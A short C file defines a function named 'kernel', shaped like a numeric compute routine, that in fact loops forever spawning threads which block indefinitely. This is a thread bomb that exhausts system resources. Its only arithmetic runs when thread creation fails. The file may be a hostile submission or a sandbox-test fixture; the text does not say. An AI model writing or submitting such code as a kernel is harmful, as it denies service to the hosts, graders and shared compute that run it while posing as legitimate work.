#include <pthread.h>
#include <unistd.h>
static void *wait_for_ever(void *arg) { pause(); return arg; }
void kernel(const float *in, float *out, int n) {
    for (;;) {
        pthread_t thread;
        if (pthread_create(&thread, 0, wait_for_ever, 0)) out[0] = in[0] + n;
    }
}
